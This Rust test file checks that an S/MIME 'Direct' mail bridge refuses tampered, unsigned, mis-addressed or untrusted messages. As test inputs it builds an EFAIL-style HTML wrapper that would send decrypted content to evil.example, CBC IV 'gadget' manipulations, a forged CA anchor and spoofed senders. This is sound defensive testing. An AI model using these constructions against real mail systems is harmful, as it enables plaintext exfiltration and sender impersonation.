//! What must not be believed is not posted and not answered, looks alike outside, and is told precisely to the audit.
//! Revoked certificates are in `revocation.rs`.

use jiff::Timestamp;
use openssl::{
    asn1::{Asn1Object, Asn1OctetString},
    base64::{decode_block, encode_block},
    hash::MessageDigest,
    x509::X509Extension,
};
use xdbridge::{
    adapters::clock::SystemClock,
    app::pki::{Authority, KeyKind, KeyPurpose, Name, Profile, days, self_signed},
    bridge::exchange::RecipientState,
    flows::ports::Clock,
    formats::smime::SigningIdentity,
};

use crate::support::{
    bridge::{MEI, pki},
    keys,
    openssl_peer::{OpensslPeer, mailed, wrapped},
    receiving_ground::{
        ADA, FINAL_DELIVERY, LETTER, ReceivingGround, SENDER, TEAM, letter, success, understood,
    },
};

fn now() -> Timestamp {
    SystemClock.now()
}

/// The sender's letter, in the entity that wraps it.
fn entity() -> String {
    wrapped(&letter("r@direct.harbor.example", &[ADA], FINAL_DELIVERY))
}

fn signed(peer: &OpensslPeer) -> Vec<u8> {
    peer.sign(entity(), &[&pki().harbor], &["-binary"])
}

fn replaced(octets: &[u8], from: &str, to: &str) -> Vec<u8> {
    let text = String::from_utf8(octets.to_vec()).unwrap();
    assert!(text.contains(from), "{from:?} is not in {text}");
    text.replacen(from, to, 1).into_bytes()
}

/// The mail with its CMS changed.
fn altered(mail: &[u8], change: impl FnOnce(&mut Vec<u8>)) -> Vec<u8> {
    let text = std::str::from_utf8(mail).unwrap();
    let (header, body) = text.split_once("\r\n\r\n").unwrap();
    let mut cms = decode_block(&body.replace("\r\n", "")).unwrap();
    change(&mut cms);
    let octets = encode_block(&cms);
    let lines: Vec<&str> = octets
        .as_bytes()
        .chunks(76)
        .map(|line| std::str::from_utf8(line).unwrap())
        .collect();
    format!("{header}\r\n\r\n{}\r\n", lines.join("\r\n")).into_bytes()
}

/// Where `needle` ends in `octets`.
fn after(octets: &[u8], needle: &[u8]) -> usize {
    let mut windows = octets.windows(needle.len());
    windows.position(|window| window == needle).unwrap() + needle.len()
}

/// Sends mails that must be rejected, and looks for the cause of each.
struct Court {
    ground: ReceivingGround,
    peer: OpensslPeer,
}

impl Court {
    fn new() -> Self {
        Self {
            ground: ReceivingGround::start(|_| success()),
            peer: OpensslPeer::new(),
        }
    }

    fn rejects(&self, name: &str, mail: &[u8], cause: &str) {
        self.rejects_from(name, SENDER, &[ADA], mail, &[cause]);
    }

    /// Any of `causes` will do.
    fn rejects_from(&self, name: &str, from: &str, to: &[&str], mail: &[u8], causes: &[&str]) {
        let found = self.ground.rejects(from, to, mail);
        let is_told = found
            .iter()
            .any(|found| causes.iter().any(|cause| found.contains(cause)));
        assert!(is_told, "{name}: {found:?}");
    }

    /// Encrypts to the bridge.
    fn enclose(&self, content: impl AsRef<[u8]>) -> Vec<u8> {
        self.peer.enclose(content, &pki().direct_elm.certificate)
    }

    /// Signs the letter as `signer`, and encrypts.
    fn signed_by(&self, signer: &SigningIdentity) -> Vec<u8> {
        self.enclose(self.peer.sign(entity(), &[signer], &["-binary"]))
    }

    /// Signs with a certificate of the trusted CA that is the sender's but for what `change` does.
    fn issued(&self, change: impl FnOnce(&mut Profile)) -> Vec<u8> {
        self.signed_by(&keys::issue(&pki().authority, &profile(change)))
    }
}

/// The sender's certificate but for what `change` does.
fn profile(change: impl FnOnce(&mut Profile)) -> Profile {
    let mut profile = Profile::address(&SENDER.parse().unwrap(), now());
    profile.key = KeyKind::P256;
    change(&mut profile);
    profile
}

/// The trace of one host, as some write it.
const HOP: &str =
    "received : from a.example by b.example\r\n\tid 1; Sun, 22 Nov 2026 08:00:00 +0000\r\n";

// rule: LOOP-3
#[test]
fn a_mail_that_fifty_hosts_have_passed_on_is_taken() {
    let court = Court::new();
    let sealed = court.enclose(signed(&court.peer));
    let travelled = [HOP.repeat(50).as_bytes(), &sealed].concat();
    assert_eq!(court.ground.arrives(&[ADA], &travelled), [LETTER]);
}

// rule: RCV-R1, RCV-R2, RCV-2, T-12, SM-25, SM-41, LOOP-3
#[test]
fn what_is_not_an_envelope_for_us_is_refused_in_the_session_and_its_cause_audited() {
    let Court { ground, peer } = &Court::new();
    let signed = signed(peer);
    let opaque = peer.sign(entity(), &[&pki().harbor], &["-binary", "-nodetach"]);
    let sealed = peer.enclose(&signed, &pki().direct_elm.certificate);
    let part = String::from_utf8(sealed.clone()).unwrap();
    let part = part.split_once("MIME-Version").unwrap().1;
    let efail = format!(
        "From: {SENDER}\r\nTo: {ADA}\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"x\"\r\n\r\n\
         --x\r\nContent-Type: text/html\r\n\r\n<img src=\"http://evil.example/\r\n--x\r\nMIME-Version{part}\r\n--x\r\n\
         Content-Type: text/html\r\n\r\n\">\r\n--x--\r\n"
    );
    let encrypted_then_signed = peer.sign(
        peer.encrypt(
            entity(),
            &[&pki().direct_elm.certificate],
            &["-aes-256-cbc"],
        ),
        &[&pki().harbor],
        &["-binary"],
    );
    for (name, mail, code, cause) in [
        ("signed only", mailed(&signed), "550 5.7.1", "RCV-2"),
        ("signed only, opaque", mailed(&opaque), "550 5.7.1", "RCV-2"),
        (
            "EFAIL around the envelope",
            efail.into_bytes(),
            "550 5.7.1",
            "RCV-2",
        ),
        (
            "encrypted, then signed",
            mailed(&encrypted_then_signed),
            "550 5.7.1",
            "RCV-2",
        ),
        (
            "sealed for another",
            peer.enclose(&signed, &pki().mei.certificate),
            "550 5.7.5",
            "SM-37",
        ),
        (
            "octets after the end",
            altered(&sealed, |cms| cms.push(0)),
            "554 5.6.0",
            "octets follow the CMS",
        ),
        (
            "round and round",
            [HOP.repeat(51).as_bytes(), &sealed].concat(),
            "554 5.4.6",
            "LOOP-3",
        ),
        (
            "cut short",
            altered(&sealed, |cms| cms.truncate(cms.len() - 16)),
            "554 5.6.0",
            "in the middle of an element",
        ),
    ] {
        let before = ground.causes().len();
        let reply = ground.send(SENDER, &[ADA], &mail);
        assert!(reply.starts_with(code), "{name}: {reply}");
        let causes = ground.causes();
        let told = causes.get(before..).unwrap_or_default();
        assert!(
            told.iter().any(|found| found.contains(cause)),
            "{name}: {causes:?}"
        );
    }
    ground.bridge.assert_nothing_stored();
    ground.assert_silence();
}

// rule: RCV-R3, RCV-R5, SM-20, SM-21, SM-22, SM-23, SM-39, T-5, T-12, T-13b, RCV-4
#[test]
fn what_is_unsigned_or_was_tampered_with_is_nobodys() {
    let court = Court::new();
    let peer = &court.peer;
    let signed = signed(peer);
    let opaque = peer.sign(entity(), &[&pki().harbor], &["-binary", "-nodetach"]);
    let not_signed = "is not signed";
    court.rejects("unsigned", &court.enclose(entity()), not_signed);
    let mixed = format!(
        "Content-Type: multipart/mixed; boundary=\"x\"\r\n\r\n--x\r\nContent-Type: text/plain\r\n\r\nclear\r\n\
         --x\r\n{}\r\n--x--\r\n",
        String::from_utf8(signed.clone()).unwrap()
    );
    court.rejects("signed beside clear", &court.enclose(mixed), not_signed);
    let twice = peer.encrypt(&signed, &[&pki().direct_elm.certificate], &["-aes-256-cbc"]);
    court.rejects("encrypted twice", &court.enclose(twice), not_signed);

    let mismatch = "does not fit the content";
    for (name, from, to) in [
        ("the document", "JVBERi0xLjQ", "JVBERi0xLjU"),
        (
            "From",
            "From: Rui Silva <rui.silva@",
            "From: Rui Silva <rui.silvo@",
        ),
        ("To", "To: ada.quill@", "To: care.team@"),
        (
            "a header more",
            "Subject: Letter",
            "X-More: 1\r\nSubject: Letter",
        ),
    ] {
        court.rejects(name, &court.enclose(replaced(&signed, from, to)), mismatch);
    }
    // The signature is the last of the CMS.
    let text = String::from_utf8(signed.clone()).unwrap();
    let end = text.rfind("\r\n\r\n----").unwrap();
    let at = text[..end - 40].rfind(char::is_alphanumeric).unwrap();
    let other = if text[at..].starts_with('A') {
        "B"
    } else {
        "A"
    };
    let forged = [&text[..at], other, &text[at + 1..]].concat();
    court.rejects(
        "the signature",
        &court.enclose(forged),
        "no signature holds",
    );
    let altered_opaque = altered(&opaque, |cms| {
        let at = after(cms, b"Please see");
        cms[at - 1] = b'x';
    });
    court.rejects("opaque content", &court.enclose(altered_opaque), mismatch);

    let bare = peer.sign(entity(), &[&pki().harbor], &["-binary", "-noattr"]);
    court.rejects("no signed attributes", &court.enclose(bare), "SM-21");
    for digest in ["sha1", "md5"] {
        let weak = peer.sign(entity(), &[&pki().harbor], &["-binary", "-md", digest]);
        court.rejects(digest, &court.enclose(weak), "SM-23");
    }
    let no_certificate = peer.sign(entity(), &[&pki().harbor], &["-binary", "-nocerts"]);
    court.rejects("no certificate", &court.enclose(no_certificate), "SM-16");
    court.ground.assert_silence();
}

// rule: RCV-R2, SM-6, SM-38, SM-39, T-12, T-13
#[test]
fn altered_ciphertext_is_refused_wherever_it_was_altered() {
    let court = Court::new();
    let to = &pki().direct_elm.certificate;
    let signed = signed(&court.peer);
    let sealed = |cipher: &str| mailed(&court.peer.encrypt(&signed, &[to], &[cipher]));
    // With CBC the damage shows where the octets are: in the padding, the header, the signed part or the signature.
    let anywhere = [
        "undecryptable",
        "is not signed",
        "malformed",
        "no signature holds",
        "OpenSSL could not read",
        "no signer",
    ];
    let cbc = sealed("-aes-256-cbc");
    let key_transport = b"\x06\x09\x2A\x86\x48\x86\xF7\x0D\x01\x01\x01\x05\x00\x04\x82\x01\x00";
    let aes256_cbc = b"\x60\x86\x48\x01\x65\x03\x04\x01\x2A\x04\x10";
    let padded = (signed.len() / 16 + 1) * 16;
    let document = after(&signed, b"JVBER");
    for (name, place) in [
        ("the header", 20),
        ("the document", document),
        ("the signature", signed.len() - 300),
        ("the padding", padded - 17),
    ] {
        let mail = altered(&cbc, |cms| {
            let at = cms.len() - padded + place;
            cms[at] ^= 1;
        });
        court.rejects_from(name, SENDER, &[ADA], &mail, &anywhere);
    }
    let wrong_key = altered(&cbc, |cms| {
        let at = after(cms, key_transport);
        cms[at + 100] ^= 1;
    });
    court.rejects_from("the content key", SENDER, &[ADA], &wrong_key, &anywhere);
    // The IV is chosen so that the first block says what the attacker wants.
    for wanted in [
        b"Content-Type: te",
        b"Content-Type:a/b",
        b"\r\n\r\n<img src=\"//",
    ] {
        let gadget = altered(&cbc, |cms| {
            let iv = after(cms, aes256_cbc);
            for (at, (was, wanted)) in signed.iter().zip(wanted).enumerate() {
                cms[iv + at] ^= was ^ wanted;
            }
        });
        court.rejects_from("a gadget", SENDER, &[ADA], &gadget, &anywhere);
    }

    let gcm = sealed("-aes-256-gcm");
    for (name, from_end) in [("the tag", 1), ("the content", 400)] {
        let mail = altered(&gcm, |cms| {
            let at = cms.len() - from_end;
            cms[at] ^= 1;
        });
        court.rejects(name, &mail, "undecryptable");
    }
    court.rejects("3DES", &sealed("-des3"), "the content cipher");
    court.ground.assert_silence();
}

// rule: RCV-R5, RCV-R6, CERT-3, CERT-4, CERT-7, CERT-10, CERT-11, BIND-1, BIND-3, TA-4, TA-6, T-4, T-13g
#[test]
fn a_signer_that_is_not_the_senders_or_not_trusted_is_refused() {
    let court = Court::new();
    let not_bound = "bound to the sender (RCV-R5)";
    let day = |number| days(now(), number);
    let named = |name: Name| court.issued(|profile| profile.names = vec![name]);
    for (name, mail, cause) in [
        (
            "a wildcard",
            named(Name::Dns("*.harbor.example".into())),
            not_bound,
        ),
        (
            "the parent domain",
            named(Name::Dns("harbor.example".into())),
            not_bound,
        ),
        (
            "another user",
            named(Name::Email("x@direct.harbor.example".into())),
            not_bound,
        ),
        (
            "a name in the subject alone",
            court.issued(|profile| profile.names.clear()),
            not_bound,
        ),
        ("another domain", court.signed_by(&pki().mei), not_bound),
        (
            "expired",
            court.issued(|profile| (profile.not_before, profile.not_after) = (day(-9), day(-1))),
            "expired (CERT-11)",
        ),
        (
            "not yet valid",
            court.issued(|profile| profile.not_before = day(1)),
            "not valid yet",
        ),
        (
            "for encryption only",
            court.issued(|profile| profile.purpose = KeyPurpose::MailEncryption),
            "keyUsage",
        ),
        (
            "for TLS",
            court.issued(|profile| profile.purpose = KeyPurpose::Tls),
            "keyUsage",
        ),
        (
            "issued with SHA-1",
            court.issued(|profile| profile.digest = MessageDigest::sha1()),
            "CERT-10",
        ),
        (
            "RSA 1024",
            court.issued(|profile| profile.key = KeyKind::Rsa(1024)),
            "SM-4",
        ),
    ] {
        court.rejects(name, &mail, cause);
    }

    let untrusted = "no signer is trusted for the recipient";
    let other = Authority::root("Test CA", now()).unwrap();
    let namesake = other.issue(&profile(|_| {})).unwrap();
    court.rejects(
        "a namesake of the anchor",
        &court.signed_by(&namesake),
        untrusted,
    );
    let own = self_signed(&profile(|_| {})).unwrap();
    court.rejects("self-signed", &court.signed_by(&own), untrusted);
    let forged = forged_anchor();
    let anchor = &pki().authority.certificate;
    assert_eq!(
        forged.certificate.subject_key_id().unwrap().as_slice(),
        anchor.subject_key_id().unwrap().as_slice()
    );
    let name = |certificate: &openssl::x509::X509| certificate.subject_name().to_der().unwrap();
    assert_eq!(name(&forged.certificate), name(anchor));
    court.rejects(
        "the anchor's name and key identifier",
        &court.signed_by(&forged),
        untrusted,
    );
    court.ground.assert_silence();
}

/// A certificate of the sender that vouches for itself, under the anchor's subject and with its key identifier.
fn forged_anchor() -> SigningIdentity {
    let anchor = &pki().authority.certificate;
    let key_id = anchor.subject_key_id().unwrap().as_slice();
    let der = [&[0x04, u8::try_from(key_id.len()).unwrap()], key_id].concat();
    let copied = X509Extension::new_from_der(
        &Asn1Object::from_str("2.5.29.14").unwrap(),
        false,
        &Asn1OctetString::new_from_bytes(&der).unwrap(),
    )
    .unwrap();
    self_signed(&profile(|profile| {
        profile.common_name = "Test CA".into();
        profile.with_key_id = false;
        profile.extensions = vec![copied];
    }))
    .unwrap()
}

// rule: RCV-R4, WR-6, WR-7, WR-8, T-4, T-5, T-13c
#[test]
fn envelopes_that_do_not_fit_the_signed_header_are_refused() {
    let court = Court::new();
    let good = || court.enclose(signed(&court.peer));
    court.rejects_from(
        "another recipient",
        SENDER,
        &[TEAM],
        &good(),
        &["WR-6, T-13c"],
    );
    court.rejects_from("another envelope sender", MEI, &[ADA], &good(), &["WR-7"]);
    // A colleague of the recipient re-encrypts what was signed for somebody else.
    let elsewhere = wrapped(&letter(
        "s@direct.harbor.example",
        &["x@direct.quay.example"],
        "",
    ));
    let forwarded = court.peer.sign(elsewhere, &[&pki().harbor], &["-binary"]);
    court.rejects("forwarded", &court.enclose(forwarded), "T-13c");
    // One trusted peer writes as another's user, in the signed header and on the envelope.
    let victim = entity().replace(SENDER, MEI);
    let stolen = court.enclose(court.peer.sign(victim, &[&pki().harbor], &["-binary"]));
    court.rejects_from("From of a victim", MEI, &[ADA], &stolen, &["RCV-R5"]);
    let two = entity().replace("To: ", "From: Mei <mei.tanaka@direct.quay.example>\r\nTo: ");
    let two = court.enclose(court.peer.sign(two, &[&pki().harbor], &["-binary"]));
    court.rejects("two From fields", &two, "T-11");
    // The outer From is nobody's word: the inner one counts.
    let outer = replaced(&good(), &format!("From: {SENDER}"), "From: x@evil.example");
    assert_eq!(court.ground.arrives(&[ADA], &outer), [LETTER]);
}

// rule: WR-6, MR-4, RCV-9
#[test]
fn a_recipient_who_is_not_named_gets_nothing_and_the_others_do() {
    let ground = ReceivingGround::start(|_| success());
    let peer = OpensslPeer::new();
    let mail = peer.enclose(signed(&peer), &pki().direct_elm.certificate);
    let reply = ground.send(SENDER, &[TEAM, ADA], &mail);
    assert!(reply.starts_with("250 2.0.0"), "{reply}");
    let exchange = ground.settled();
    let states: Vec<_> = exchange
        .recipients
        .iter()
        .map(|recipient| recipient.state)
        .collect();
    assert_eq!(
        states,
        [RecipientState::Rejected, RecipientState::Dispatched]
    );
    let (request, _) = understood(&ground.posted()[0]);
    assert_eq!(request.address_block.unwrap().to, [ADA.parse().unwrap()]);
    ground.bridge.wait_until_idle();
    assert!(ground.notices(2).iter().all(|notice| notice.from == ADA));
    let causes = ground.causes();
    assert!(
        matches!(&causes[..], [cause] if cause.contains("WR-6")),
        "{causes:?}"
    );
}
